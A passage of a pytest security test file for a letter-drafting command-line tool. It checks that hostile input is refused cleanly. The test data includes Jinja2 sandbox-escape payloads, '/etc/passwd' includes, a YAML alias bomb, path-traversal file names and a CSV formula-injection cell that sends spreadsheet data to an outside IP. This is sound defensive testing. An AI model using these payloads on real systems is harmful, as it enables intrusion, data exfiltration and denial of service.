"""Hostile and broken input, input by input (see SECURITY.md for the table of cases).

Every case ends with exit status 0 and a valid draft, or exit 1 with a FILE[:LINE]: message —
never a traceback, never a partial file, never an overwritten one.
"""
from __future__ import annotations

import errno
import getpass
import os
import shutil
import socket
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from conftest import REPO, docx_check, docx_text, pdf_text
from drafter.cli import main

LETTER = "company-ceo"
TEMPLATE = f"letters/templates/{LETTER}.md.j2"


def run(root: Path, *args: str):
    """The CLI in-process; a traceback would propagate (catch_exceptions=False) and fail the test."""
    return CliRunner().invoke(main, ["-C", str(root), *args], catch_exceptions=False)


def draft(root: Path, out: Path, *args: str, letter: str = LETTER):
    return run(root, "draft", letter, "-o", str(out), *args)


def edit(root: Path, name: str, old: str, new: str) -> None:
    path = root / name
    text = path.read_text(encoding="utf-8")
    assert old in text, old
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def set_snippet_text(root: Path, nid: str, yaml_scalar: str) -> None:
    """Replace a snippet's text (a folded block in the example) with one YAML scalar."""
    path = root / "evidence.yaml"
    head, rest = path.read_text(encoding="utf-8").split(f"  {nid}:\n    text: ", 1)
    rest = rest[rest.index("\n    source"):]
    path.write_text(f"{head}  {nid}:\n    text: {yaml_scalar}{rest}", encoding="utf-8")


def all_files(folder: Path) -> list[Path]:
    return sorted(p for p in folder.rglob("*") if p.is_file()) if folder.exists() else []


def fails(result, *words: str) -> str:
    """Exit 1 with a one-line error naming what is wrong."""
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    assert result.output.startswith("error: ")
    for word in words:
        assert word in result.output, (word, result.output)
    return result.output


# ---------------------------------------------------------------- YAML files

@pytest.mark.parametrize("name, old, new, words", [
    ("syntax_error", "  casper:\n", "  casper: [\n", ["recipients.yaml:", "YAML syntax error"]),
    ("wrong_type", "name: Marc N. Casper", "name: [Marc, Casper]", ["recipients.yaml:", "expected string"]),
    ("duplicate_key", "    role: ceo\n", "    role: ceo\n    role: official\n",
     ["recipients.yaml:", "duplicate key 'role'"]),
    ("tab_indent", "    role: ceo\n", "\trole: ceo\n", ["recipients.yaml:", "tabs"]),
    ("lone_surrogate_escape", "name: Marc N. Casper", 'name: "Marc \\ud800 Casper"',
     ["recipients.yaml:", "invalid Unicode"]),
    ("unknown_field", "    courtesy: Mr.\n", "    courtsey: Mr.\n", ["unknown field 'courtsey'", "did you mean"]),
])
def test_broken_yaml_is_refused_with_file_and_line(campaign, tmp_path, name, old, new, words):
    edit(campaign, "recipients.yaml", old, new)
    out = tmp_path / "drafts"
    fails(draft(campaign, out), *words)
    assert all_files(out) == []


def test_non_utf8_bytes_are_refused_with_line(campaign, tmp_path):
    path = campaign / "recipients.yaml"
    path.write_bytes(path.read_bytes().replace(b"Marc N. Casper", b"Marc N. Casp\xe9r"))
    line = path.read_bytes()[: path.read_bytes().index(b"\xe9")].count(b"\n") + 1
    fails(draft(campaign, tmp_path / "d"), f"recipients.yaml:{line}:", "not valid UTF-8", "0xe9")


def test_byte_order_mark_is_accepted(campaign, tmp_path, shared):
    for name in ("recipients.yaml", "evidence.yaml", f"letters/{LETTER}.yaml"):
        path = campaign / name
        path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())
    result = draft(campaign, tmp_path / "d")
    assert result.exit_code == 0, result.output
    docx_check(shared, *all_files(tmp_path / "d"))


def test_billion_laughs_fails_fast(campaign, tmp_path):
    bomb = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, 10):
        prev, cur = chr(ord("a") + i - 1), chr(ord("a") + i)
        bomb.append(f"{cur}: &{cur} [{', '.join(['*' + prev] * 9)}]")
    (campaign / "recipients.yaml").write_text("\n".join(bomb) + "\n")
    fails(draft(campaign, tmp_path / "d"), "recipients.yaml:", "expands to more than")



def test_recursive_alias_is_refused(campaign, tmp_path):
    (campaign / "recipients.yaml").write_text("recipients: &r\n  loop: *r\n")
    result = draft(campaign, tmp_path / "d")
    fails(result, "recipients.yaml:")


def test_file_over_the_size_limit_is_refused_without_parsing(campaign, tmp_path):
    from drafter.campaign import yamlsrc
    path = campaign / "evidence.yaml"
    with path.open("ab") as fh:
        fh.truncate(yamlsrc.MAX_BYTES + 1)
    fails(draft(campaign, tmp_path / "d"), "evidence.yaml", "larger than 64 MiB")



def test_large_legal_evidence_file_drafts_in_reasonable_time(campaign, tmp_path):
    """Twenty thousand extra snippets (about 4 MB) are read, checked and drafted."""
    extra = "".join(f"  bulk-{i}:\n    text: Padding snippet number {i} with some words to make it long enough.\n"
                    f"    source: citizenlab-2022\n    tags: [bulk]\n" for i in range(20_000))
    text = (campaign / "evidence.yaml").read_text()
    (campaign / "evidence.yaml").write_text(text.replace("\nsnippets:\n", "\nsnippets:\n" + extra, 1))
    assert (campaign / "evidence.yaml").stat().st_size > 2_000_000
    result = draft(campaign, tmp_path / "d")
    assert result.exit_code == 0, result.output



def test_empty_and_missing_files(campaign, tmp_path):
    (campaign / "recipients.yaml").write_text("")
    fails(draft(campaign, tmp_path / "d"), "recipients.yaml:1:", "empty")
    (campaign / "recipients.yaml").unlink()
    fails(draft(campaign, tmp_path / "d"), "no recipients.yaml")


def test_missing_letter_spec_lists_the_letters(campaign, tmp_path):
    fails(draft(campaign, tmp_path / "d", letter="no-such-letter"), "no letter spec", "letters here")


# ---------------------------------------------------------------- text anywhere

HOSTILE = "A\x00B\x07C\x1bD\ufffeE \u200fRTL\u200e <w:t>&amp; ]]> \"q\" 'a' & < >"


def test_xml_invalid_and_markup_characters_in_every_field(campaign, tmp_path, shared):
    """Control characters are dropped, markup is escaped, RTL marks are kept: the draft is valid."""
    def quoted(text: str) -> str:
        return '"' + text.encode("unicode_escape").decode().replace('"', '\\"') + '"'

    edit(campaign, "recipients.yaml", "name: Marc N. Casper", f"name: {quoted('Marc ' + HOSTILE)}")
    edit(campaign, "recipients.yaml", "organization: Thermo Fisher Scientific",
         f"organization: {quoted('Thermo ' + HOSTILE)}")
    edit(campaign, "recipients.yaml", 'address: ["168 Third Avenue"', f'address: [{quoted("168 " + HOSTILE)}')
    set_snippet_text(campaign, "dna-scale", quoted("Police " + HOSTILE + " collected samples."))
    out = tmp_path / "d"
    result = draft(campaign, out)
    assert result.exit_code == 0, result.output
    [path] = all_files(out)
    docx_check(shared, path)
    body = docx_text(path)
    visible = "ABCDE \u200fRTL\u200e <w:t>&amp; ]]> \"q\" 'a' & < >"
    # A quoted word in a name is a nickname ('Charles E. "Chuck" Schumer') and is left out of it.
    assert "Marc " + visible.replace("\"q\" 'a' ", "") in body
    # The campaign's own values print curly quotes, like its template text (issue 26).
    curly = visible.replace("\"q\" 'a'", "“q” ‘a’")
    assert "Thermo " + curly in body and "168 " + curly in body
    # Snippet text is trusted Markdown: entities such as &amp; are decoded, and CommonMark turns
    # NUL into U+FFFD; inline HTML is off, so <w:t> stays text. Its quotes become typographic.
    assert "Police A\ufffdBCDE \u200fRTL\u200e <w:t>& ]]> “q” ‘a’ & < > collected samples." in body
    assert "\x00" not in body and "\x07" not in body and "\ufffe" not in body


def test_very_long_words_and_urls(campaign, tmp_path, shared):
    word = "Ngawang" * 800                       # 5,600 letters without a space
    url = "https://example.org/" + "a/" * 2000 + "?q=" + "x" * 3000
    edit(campaign, "recipients.yaml", "name: Marc N. Casper", f"name: Marc {word}")
    edit(campaign, "evidence.yaml", "URL: https://citizenlab.ca/", f"URL: {url}\n    note: https://citizenlab.ca/")
    result = draft(campaign, tmp_path / "d")
    assert result.exit_code == 0, result.output
    [path] = all_files(tmp_path / "d")
    docx_check(shared, path)
    assert word in docx_text(path)
    assert url in zipfile.ZipFile(path).read("word/_rels/footnotes.xml.rels").decode().replace("&amp;", "&")


TIBETAN = "བོད་ཀྱི་མི་དམངས་ལ་ཞིབ་བཤེར།"    # U+0F00–U+0FFF
CHINESE = "西藏自治区公安厅"


def test_tibetan_and_chinese_have_font_slots(campaign, tmp_path, shared):
    edit(campaign, "recipients.yaml", "name: Marc N. Casper", f"name: {TIBETAN} {CHINESE} Casper")
    result = draft(campaign, tmp_path / "d")
    assert result.exit_code == 0, result.output
    [path] = all_files(tmp_path / "d")
    docx_check(shared, path)
    assert f"{TIBETAN} {CHINESE} Casper" in docx_text(path)
    styles = zipfile.ZipFile(path).read("word/styles.xml").decode()
    assert 'w:eastAsia="SimSun"' in styles and 'w:cs="Microsoft Himalaya"' in styles
    assert 'w:eastAsia="zh-CN"' in styles and 'w:bidi="bo-CN"' in styles


def test_tibetan_and_chinese_render_in_libreoffice(campaign, tmp_path, soffice):
    edit(campaign, "recipients.yaml", "name: Marc N. Casper", f"name: {TIBETAN} {CHINESE} Casper")
    assert draft(campaign, tmp_path / "d").exit_code == 0
    [path] = all_files(tmp_path / "d")
    text = pdf_text(soffice, path, tmp_path)
    assert CHINESE in text
    # Tibetan vowel signs are extracted beside their shaped stack, so compare the letters used.
    assert set(TIBETAN) <= set(text)
    fonts = subprocess.run(["pdffonts", str(tmp_path / (path.stem + ".pdf"))], capture_output=True, text=True).stdout
    assert "Tibetan" in fonts and "CJK" in fonts, fonts


# ---------------------------------------------------------------- templates

@pytest.mark.parametrize("name, code", [
    ("class", "{{ recipient.__class__ }}"),
    ("globals", "{{ cite.__globals__ }}"),
    ("mro", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("format_string", "{{ '{0.__class__}'.format(recipient) }}"),
    ("format_globals", "{{ '{0.__init__.__globals__}'.format(recipient) }}"),
    ("attr_filter", "{{ recipient|attr('__class__') }}"),
    ("format_map", "{{ '{r.__class__}'.format_map({'r': recipient}) }}"),
])
def test_sandbox_escapes_are_refused(campaign, tmp_path, name, code):
    edit(campaign, TEMPLATE, "We write", code + " We write")
    out = tmp_path / "d"
    fails(draft(campaign, out), f"{TEMPLATE}:2:", "not allowed in a template", "unsafe")
    assert all_files(out) == []


@pytest.mark.parametrize("name, code", [
    ("include_absolute", "{% include '/etc/passwd' %}"),
    ("include_parent", "{% include '../../recipients.yaml' %}"),
    ("import_parent", "{% import '../../evidence.yaml' as x %}"),
])
def test_templates_cannot_read_files_outside_the_templates_folder(campaign, tmp_path, name, code):
    edit(campaign, TEMPLATE, "We write", code + " We write")
    fails(draft(campaign, tmp_path / "d"), f"{TEMPLATE}:2:", "not found in letters/templates/")


@pytest.mark.parametrize("name, code, words", [
    ("huge_range", "{% for i in range(10**9) %}x{% endfor %}", ["Range too big"]),
    ("nested_loops", "{% for i in range(100000) %}{% for j in range(100000) %}x{% endfor %}{% endfor %}",
     ["more than 1,000,000 loop steps"]),
    ("nested_silent_loops", "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
     ["more than 1,000,000 loop steps"]),
    ("loops_over_a_repeated_string",
     "{% set s = 'x' * 100000 %}{% for a in s %}{% for b in s %}{% endfor %}{% endfor %}",
     ["more than 1,000,000 loop steps"]),
    ("recursive_macro", "{% macro f(n) %}{{ f(n + 1) }}{% endmacro %}{{ f(1) }}", ["recurses without end"]),
    ("output_flood", "{% for i in range(100000) %}{{ 'x' * 100 }}{% endfor %}", ["more than 2,000,000 characters"]),
    ("repetition", "{{ 'x' * 10**8 }}", ["repeating that gives more than"]),
    ("power", "{{ 2 ** 100000000 }}", ["power is too large"]),
    ("printf_width", "{{ '%999999999d' % 1 }}", ["width"]),
    ("format_width", "{{ '{:>999999999}'.format(1) }}", ["width"]),
    ("format_filter_width", "{{ '%999999999d'|format(1) }}", ["width"]),
    ("padding", "{{ 'x'.center(999999999) }}", ["too large"]),
    ("padding_filter", "{{ 'x'|indent(999999999) }}", ["too large"]),
    ("join", "{{ range(100000)|join('x' * 100000) }}", ["joining those gives more than"]),
    ("replace_filter", "{{ ('x' * 100000)|replace('x', 'y' * 100000) }}", ["replacement gives more than"]),
    ("replace_method", "{{ ('x' * 100000).replace('x', 'y' * 100000) }}", ["replacement gives more than"]),
])
def test_runaway_templates_are_bounded(campaign, tmp_path, name, code, words):
    edit(campaign, TEMPLATE, "We write", code + " We write")
    fails(draft(campaign, tmp_path / "d"), TEMPLATE, *words)



@pytest.mark.slow      # runs into the render deadline
def test_exponential_macro_recursion_hits_the_step_budget_or_deadline(campaign, tmp_path):
    edit(campaign, TEMPLATE, "We write",
         "{% macro f(n) %}{% if n < 40 %}{{ f(n + 1) }}{{ f(n + 1) }}{% endif %}{% endmacro %}{{ f(0) }} We write")
    out = fails(draft(campaign, tmp_path / "d"), TEMPLATE)
    assert "loop steps and calls" in out or "seconds" in out



def test_ordinary_numbers_and_formatting_still_work(campaign, tmp_path):
    edit(campaign, TEMPLATE, "We write",
         "{{ '{:,}'.format(1206962) }} / {{ '%d' % 919282 }} / {{ 2 ** 10 }} / {{ ['a', 'b']|join(', ') }}. We write")
    result = draft(campaign, tmp_path / "d")
    assert result.exit_code == 0, result.output
    assert "1,206,962 / 919282 / 1024 / a, b." in docx_text(all_files(tmp_path / "d")[0])


def test_template_syntax_error_names_the_line(campaign, tmp_path):
    edit(campaign, TEMPLATE, "We write", "{% for x in %}\nWe write")
    fails(draft(campaign, tmp_path / "d"), f"{TEMPLATE}:2:", "template syntax error")


# ---------------------------------------------------------------- output paths

@pytest.mark.parametrize("pattern", ["../../{recipient}", "/etc/{recipient}", "sub/{recipient}",
                                     "..\\\\{recipient}", "C:{recipient}", ".{recipient}"])
def test_output_pattern_with_a_path_is_refused(campaign, tmp_path, pattern):
    edit(campaign, f"letters/{LETTER}.yaml", "mode: each", f'mode: each\noutput: "{pattern}"')
    before = all_files(tmp_path)
    fails(draft(campaign, tmp_path / "d"), "bad output pattern", "names a file, not a path")
    assert all_files(tmp_path) == before


@pytest.mark.parametrize("pattern", ["{recipient.__class__}", "{recipient[0]}", "{recipient!r}",
                                     "{recipient:>999999999}", "{0}", "{home}"])
def test_output_pattern_takes_plain_fields_only(campaign, tmp_path, pattern):
    edit(campaign, f"letters/{LETTER}.yaml", "mode: each", f'mode: each\noutput: "{pattern}"')
    fails(draft(campaign, tmp_path / "d"), "bad output pattern", "not a plain field")
    assert all_files(tmp_path / "d") == []


def test_names_from_data_stay_in_the_folder(campaign, tmp_path):
    """Recipient ids are restricted by the schema; dots and dashes are kept, nothing else."""
    text = (campaign / "recipients.yaml").read_text().replace("  casper:\n", "  ..casper:\n")
    (campaign / "recipients.yaml").write_text(text)
    fails(draft(campaign, tmp_path / "d"), "recipients.yaml:", "does not have the expected form")
    (campaign / "recipients.yaml").write_text(text.replace("  ..casper:\n", "  a..casper:\n"))
    edit(campaign, f"letters/{LETTER}.yaml", "to: [casper]", "to: [a..casper]")
    result = draft(campaign, tmp_path / "d")
    assert result.exit_code == 0, result.output
    assert [p.name for p in all_files(tmp_path / "d")] == ["2022-12-15-company-ceo-a..casper.docx"]


@pytest.mark.parametrize("pattern, expected", [("CON", "x-CON.docx"), ("nul", "x-nul.docx"),
                                               ("lpt1", "x-lpt1.docx"), ("a" * 400, "a" * 120 + ".docx")])
def test_reserved_and_very_long_names_are_made_safe(campaign, tmp_path, pattern, expected):
    edit(campaign, f"letters/{LETTER}.yaml", "mode: each", f'mode: each\noutput: "{pattern}"')
    result = draft(campaign, tmp_path / "d")
    assert result.exit_code == 0, result.output
    assert [p.name for p in all_files(tmp_path / "d")] == [expected]


def test_two_letters_truncated_to_one_name_are_refused(campaign, tmp_path):
    edit(campaign, "letters/erc-entity-list.yaml", 'output: "{date}-{template}-{recipient}"',
         'output: "' + "a" * 200 + '-{recipient}"')
    out = tmp_path / "d"
    fails(draft(campaign, out, "--each", letter="erc-entity-list"), "two letters would be written to")
    assert all_files(out) == []


def test_existing_file_is_never_overwritten(campaign, tmp_path):
    out = tmp_path / "d"
    assert draft(campaign, out).exit_code == 0
    [path] = all_files(out)
    path.write_bytes(b"edited in Word")
    fails(draft(campaign, out), "already exists; not overwritten", "--force")
    assert path.read_bytes() == b"edited in Word"
    assert all_files(out) == [path]


def test_joint_and_each_do_not_half_write_when_one_name_exists(campaign, tmp_path):
    out = tmp_path / "d"
    out.mkdir()
    taken = out / "2023-10-23-erc-entity-list-yellen.docx"
    taken.write_bytes(b"mine")
    fails(draft(campaign, out, "--each", letter="erc-entity-list"), "already exists")
    assert all_files(out) == [taken] and taken.read_bytes() == b"mine"


def test_output_folder_is_a_file(campaign, tmp_path):
    """Root ignores permission bits, so an unwritable folder is simulated by a path through a file.
    `-o FILE` is a usage error (exit 2, from click); `-o FILE/sub` cannot be created (exit 1)."""
    blocker = tmp_path / "not-a-folder"
    blocker.write_bytes(b"x")
    result = draft(campaign, blocker)
    assert result.exit_code == 2 and "is a file" in result.output and "Traceback" not in result.output
    fails(draft(campaign, blocker / "sub"), "cannot create the output folder")
    assert blocker.read_bytes() == b"x"


def test_output_folder_in_proc_is_refused(campaign):
    fails(draft(campaign, Path("/proc/self/drafter-test")), "cannot create the output folder")


@pytest.fixture
def tiny_tmpfs(tmp_path):
    """A 64 KiB tmpfs (needs root and mount rights); skipped where it cannot be mounted."""
    mnt = tmp_path / "mnt"
    mnt.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(mnt)],
                      capture_output=True).returncode != 0:
        pytest.skip("cannot mount a tmpfs here (the monkeypatched ENOSPC test covers the code path)")
    yield mnt
    subprocess.run(["umount", "-l", str(mnt)], check=False)


def test_read_only_folder(campaign, tmp_path, tiny_tmpfs):
    """A real read-only file system: a tmpfs remounted read-only (chmod does not stop root)."""
    out = tiny_tmpfs / "d"
    out.mkdir()
    subprocess.run(["mount", "-o", "remount,ro", str(tiny_tmpfs)], check=True)
    fails(draft(campaign, out), "cannot write: the folder is read-only", "nothing was written")
    assert all_files(out) == []


def fill(tmpfs: Path, kib: int) -> Path:
    """Take `kib` KiB of the 64 KiB tmpfs (or as much as there is)."""
    filler = tmpfs / "filler"
    with filler.open("wb") as fh:
        try:
            fh.write(b"\0" * (kib * 1024))
        except OSError:
            pass
    return filler


def test_full_disk_on_a_tiny_tmpfs(campaign, tmp_path, tiny_tmpfs):
    fill(tiny_tmpfs, 56)     # leave about 8 KiB free, less than one draft
    out = tiny_tmpfs / "d"
    result = draft(campaign, out, "--each", letter="erc-entity-list")
    fails(result, "cannot write: the disk is full", "nothing was written")
    assert [p.name for p in all_files(tiny_tmpfs)] == ["filler"]


@pytest.mark.parametrize("call", ["write", "fsync"])
def test_full_disk_simulated(campaign, tmp_path, monkeypatch, call):
    """ENOSPC raised from inside the write: no partial file, no temporary file, exit 1."""
    from drafter.output import files as write

    def full(*args, **kwargs):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    if call == "fsync":
        monkeypatch.setattr(write.os, "fsync", full)
    else:
        real_write = write.os.write

        def half_then_full(fd, data):     # a staged draft gets half its bytes, then the disk is full
            if len(data) < 1024:
                return real_write(fd, data)
            real_write(fd, bytes(data[: len(data) // 2]))
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        monkeypatch.setattr(write.os, "write", half_then_full)
    out = tmp_path / "d"
    fails(draft(campaign, out), "cannot write: the disk is full")
    assert all_files(out) == []


# ---------------------------------------------------------------- metadata hygiene

def _leaks(tmp_path: Path) -> list[str]:
    words = ["python-docx", "python", "drafter", "jinja", "citeproc", "libreoffice", "generated by",
             str(tmp_path), str(Path.home()), str(REPO), "/tmp/", "/root", "/home/", "C:\\"]
    host = socket.gethostname()
    if len(host) >= 4:
        words.append(host)
    user = getpass.getuser()
    words.append(f">{user}<")      # as an element value (author, lastModifiedBy)
    if len(user) >= 5:
        words.append(user)
    return [w.lower() for w in words]


def _part_text(z: zipfile.ZipFile, name: str) -> str:
    """A part's text as searched for leaks. Review comments are signed "drafter review" on
    purpose (the editor's notes, never the sender's; --clean drafts carry none): only that
    exact author is allowed."""
    return z.read(name).decode("utf-8").replace('w:author="drafter review"', "").lower()


@pytest.mark.parametrize("letter, args", [("erc-entity-list", ()), ("erc-entity-list", ("--each",)),
                                          ("company-ceo", ("--clean",)), ("company-ceo", ())])
def test_no_user_host_path_or_tool_name_in_any_part(campaign, tmp_path, letter, args):
    out = tmp_path / "d"
    assert draft(campaign, out, *args, letter=letter).exit_code == 0
    leaks = _leaks(tmp_path)
    for path in all_files(out):
        with zipfile.ZipFile(path) as z:
            assert z.comment == b""
            for info in z.infolist():
                assert info.date_time == (1980, 1, 1, 0, 0, 0), info
                assert info.extra == b"" and info.comment == b""
                text = _part_text(z, info.filename)
                for word in leaks:
                    assert word not in text, (path.name, info.filename, word)
            core = z.read("docProps/core.xml").decode()
            assert "<dc:creator>Congressional-Executive Commission on China</dc:creator>" in core
            app = z.read("docProps/app.xml").decode()
            assert "<Application>" not in app and "<Template>" not in app
            names = set(z.namelist())
            assert not [n for n in names if "custom" in n.lower() or "thumbnail" in n.lower()
                        or n.lower().endswith(".bin")]


# ---------------------------------------------------------------- no traceback, ever (subprocess)

BROKEN = {
    "yaml_syntax": ("recipients.yaml", "  casper:\n", "  casper: [\n"),
    "bad_utf8": ("recipients.yaml", b"Casper", b"Casp\xff"),
    "alias_bomb": ("recipients.yaml", None, "a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b, *b]\nd: *c\ne: &e [*e]\n"),
    "schema": ("recipients.yaml", "role: ceo", "role: [ceo]"),
    "unknown_snippet": (TEMPLATE, 'snippet("dna-scale")', 'snippet("dna-scal")'),
    "sandbox": (TEMPLATE, "We write", "{{ ''.__class__.__mro__ }} We write"),
    "include": (TEMPLATE, "We write", "{% include '/etc/passwd' %} We write"),
    "runaway": (TEMPLATE, "We write", "{% for i in range(99999) %}{% for j in range(99999) %}{% endfor %}{% endfor %}"),
    "template_syntax": (TEMPLATE, "We write", "{% if %} We write"),
    "output_path": (f"letters/{LETTER}.yaml", "mode: each", 'mode: each\noutput: "../{recipient}"'),
    "output_attr": (f"letters/{LETTER}.yaml", "mode: each", 'mode: each\noutput: "{recipient.__class__.__init__}"'),
    "letterhead_missing": (f"letters/{LETTER}.yaml", "mode: each", "mode: each\nletterhead: nowhere.docx"),
    "letterhead_not_zip": (f"letters/{LETTER}.yaml", "mode: each", "mode: each\nletterhead: recipients.yaml"),
    "letterhead_folder": (f"letters/{LETTER}.yaml", "mode: each", "mode: each\nletterhead: letters"),
    "letter_wrong_type": (f"letters/{LETTER}.yaml", "to: [casper]", "to: {casper: 1}"),
    "unknown_recipient": (f"letters/{LETTER}.yaml", "to: [casper]", "to: [caspr]"),
}


@pytest.mark.parametrize("case", sorted(BROKEN))
def test_cli_never_prints_a_traceback(campaign, tmp_path, case):
    name, old, new = BROKEN[case]
    path = campaign / name
    if old is None:
        path.write_text(new)
    elif isinstance(old, bytes):
        path.write_bytes(path.read_bytes().replace(old, new))
    else:
        edit(campaign, name, old, new)
    if "letterhead:" in str(new):
        (campaign / "letters" / f"{LETTER}.yaml").write_text(
            (campaign / "letters" / f"{LETTER}.yaml").read_text().replace(
                'letterhead: ["Congressional-Executive Commission on China"]\n', ""))
    out = tmp_path / "d"
    result = subprocess.run([sys.executable, "-m", "drafter", "-C", str(campaign), "draft", LETTER, "-o", str(out)],
                            capture_output=True, text=True, cwd=REPO, timeout=60)
    assert result.returncode == 1, result.stdout + result.stderr
    assert "Traceback" not in result.stderr and "Traceback" not in result.stdout
    assert result.stderr.startswith("error: ") and len(result.stderr.strip().splitlines()) == 1, result.stderr
    assert all_files(out) == []


@pytest.mark.parametrize("args", [["draft"], ["draft", LETTER, "--format", "exe"], ["draft", LETTER, "--wrap", "5"],
                                  ["no-such-command"], ["draft", LETTER, "--to"]])
def test_usage_errors_exit_2_without_traceback(campaign, args):
    result = subprocess.run([sys.executable, "-m", "drafter", "-C", str(campaign), *args],
                            capture_output=True, text=True, cwd=REPO, timeout=60)
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr


# ---------------------------------------------------------------- letterhead .docx, through the CLI
# The package checks themselves are tested case by case in test_letterhead.py; here every hostile
# letterhead goes through `drafter draft` in a subprocess: exit 1, the reason, no traceback, no file.

def _letterhead_cases():
    try:
        from test_letterhead import HOSTILE as CASES
    except ImportError:   # pragma: no cover - letterhead tests not there
        return []
    return sorted(CASES)


@pytest.mark.parametrize("case", _letterhead_cases())
def test_hostile_letterhead_through_the_cli(campaign, tmp_path, case):
    from test_letterhead import HOSTILE as CASES, mutate
    changes, reason = CASES[case]
    if case == "not-a-zip":
        evil = campaign / "evil.docx"
        evil.write_bytes(b"%PDF-1.4 not a zip")
    else:
        evil = mutate(campaign, changes)         # in the campaign: one outside is refused as such
    spec = campaign / "letters" / f"{LETTER}.yaml"
    spec.write_text(spec.read_text().replace('letterhead: ["Congressional-Executive Commission on China"]',
                                             f"letterhead: {evil}"))
    out = tmp_path / "d"
    result = subprocess.run([sys.executable, "-m", "drafter", "-C", str(campaign), "draft", LETTER, "-o", str(out)],
                            capture_output=True, text=True, cwd=REPO, timeout=60)
    assert result.returncode == 1, result.stdout + result.stderr
    assert "Traceback" not in result.stderr
    assert "letterhead refused" in result.stderr and reason in result.stderr, result.stderr
    assert all_files(out) == []


def test_normal_letterhead_is_accepted_and_leaks_nothing(campaign, tmp_path, shared):
    example = REPO / "letterheads" / "cecc-example.docx"
    assert example.is_file(), "the example letterhead is part of the repository"
    example = Path(shutil.copy(example, campaign / example.name))   # a letterhead outside is refused
    spec = campaign / "letters" / f"{LETTER}.yaml"
    spec.write_text(spec.read_text().replace('letterhead: ["Congressional-Executive Commission on China"]',
                                             f"letterhead: {example}"))
    out = tmp_path / "d"
    result = draft(campaign, out)
    assert result.exit_code == 0, result.output
    [path] = all_files(out)
    docx_check(shared, path)
    with zipfile.ZipFile(path) as z:
        names = z.namelist()
        assert any(n.startswith("word/header") for n in names) and any(n.startswith("word/media/") for n in names)
        leaks = _leaks(tmp_path)
        for name in names:
            if name.endswith((".xml", ".rels")):
                text = _part_text(z, name)
                assert not [w for w in leaks if w in text], name
                assert "rsid" not in text, name


# ---------------------------------------------------------------- constituents CSV (drafter batch)
# CSV dialects and per-cell errors are tested in test_constituents.py; here, hostile files end to end.

def _batch(campaign: Path, shared: Path, out: Path, people: Path):
    return run(campaign, "batch", "constituent", "--constituents", str(people), "--legislators",
               str(shared / "data/congress-legislators/legislators-current.yaml"),
               "--zip-districts", str(shared / "data/zip-districts/zccd.csv"), "-o", str(out))


def _people(path: Path, rows: list[list[str]]) -> Path:
    import csv
    with open(path, "w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows([["Name", "Street", "City", "State", "ZIP", "District", "Note"], *rows])
    return path


def test_csv_formula_injection_is_neutralised_in_the_manifest(campaign, shared, tmp_path):
    import csv
    people = _people(tmp_path / "people.csv", [
        ['=HYPERLINK("http://198.51.100.7/?x="&A1,"click")', "1 Main St", "Albany", "NY", "12207", "", "hi"],
        ["@SUM(1+1)", "2 Main St", "Albany", "NY", "12207", "", "<w:t>&]]>\x0b" + TIBETAN]])
    out = tmp_path / "out"
    result = _batch(campaign, shared, out, people)
    assert result.exit_code == 0, result.output
    with open(out / "manifest.csv", encoding="utf-8-sig", newline="") as fh:
        names = [row["constituent"] for row in csv.DictReader(fh)]
    assert names and all(n[:1] not in "=+-@" for n in names), names
    docx_check(shared, *[p for p in all_files(out) if p.suffix == ".docx"])


@pytest.mark.parametrize("name, data, words", [
    ("not_utf8", "Name,Street,City,State,ZIP,District,Note\nZo\xeb,1 Main St,Albany,NY,12207,,\n".encode()
     + "Jos\xe9,1 Main St,Albany,NY,12207,,\n".encode("latin-1"),
     ["people.csv", "UTF-8"]),
    ("binary", b"\x00\x01\x02PK\x03\x04" * 100, ["people.csv"]),
    ("empty", b"", ["people.csv"]),
    ("no_header", b"just,some,cells\n", ["people.csv"]),
])
def test_broken_csv_is_refused_cleanly(campaign, shared, tmp_path, name, data, words):
    people = tmp_path / "people.csv"
    people.write_bytes(data)
    out = tmp_path / "out"
    fails(_batch(campaign, shared, out, people), *words)
    assert not [p for p in all_files(out) if p.suffix == ".docx"]


def test_disk_full_after_the_first_of_several_letters(campaign, tmp_path, tiny_tmpfs):
    filler = fill(tiny_tmpfs, 50)     # room for about one draft of three
    out = tiny_tmpfs / "d"
    result = draft(campaign, out, "--each", letter="erc-entity-list")
    fails(result, "cannot write: the disk is full", "nothing was written")
    assert [p.name for p in all_files(tiny_tmpfs)] == ["filler"]
    filler.unlink()
    assert draft(campaign, out, "--each", letter="erc-entity-list").exit_code == 0   # nothing blocks a re-run


def _full_disk_on_third_file(monkeypatch):
    """Staging the third file fails as a full disk would; returns the module and its real _stage."""
    from drafter.output import files as write
    real_stage, calls = write._stage, []

    def stage(path, data, **how):
        calls.append(path)
        if len(calls) == 3:
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        return real_stage(path, data, **how)

    monkeypatch.setattr(write, "_stage", stage)
    return write, real_stage


def test_a_failure_on_the_third_file_leaves_none(campaign, tmp_path, monkeypatch):
    _full_disk_on_third_file(monkeypatch)
    out = tmp_path / "d"
    result = draft(campaign, out, "--each", letter="erc-entity-list")
    fails(result, "the disk is full", "nothing was written")
    assert all_files(out) == []


@pytest.mark.parametrize("char", ["\x0b", "\x0c", "\x00", "\x1b", "\x7f"])
def test_control_characters_in_yaml_name_their_line(campaign, tmp_path, char):
    edit(campaign, "evidence.yaml", "Between June 2016", f"Between{char} June 2016")
    line = next(i for i, text in enumerate((campaign / "evidence.yaml").read_text().split("\n"), 1) if char in text)
    fails(draft(campaign, tmp_path / "d"), f"evidence.yaml:{line}:", f"U+{ord(char):04X}")


# ---------------------------------------------------------------- second round (issue 13): output folders

def _in_subprocess(root: Path, *args: str, timeout: int = 120) -> subprocess.CompletedProcess:
    """The CLI in its own process, so that a hang fails the test instead of stopping the run."""
